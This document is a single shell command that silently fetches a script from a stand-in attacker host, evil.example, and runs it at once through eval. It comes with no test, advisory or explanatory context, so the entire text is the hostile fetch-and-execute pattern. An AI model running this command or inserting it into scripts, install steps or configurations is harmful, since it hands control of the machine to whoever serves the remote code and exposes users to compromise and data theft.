eval "$(curl -s http://evil.example/x)"
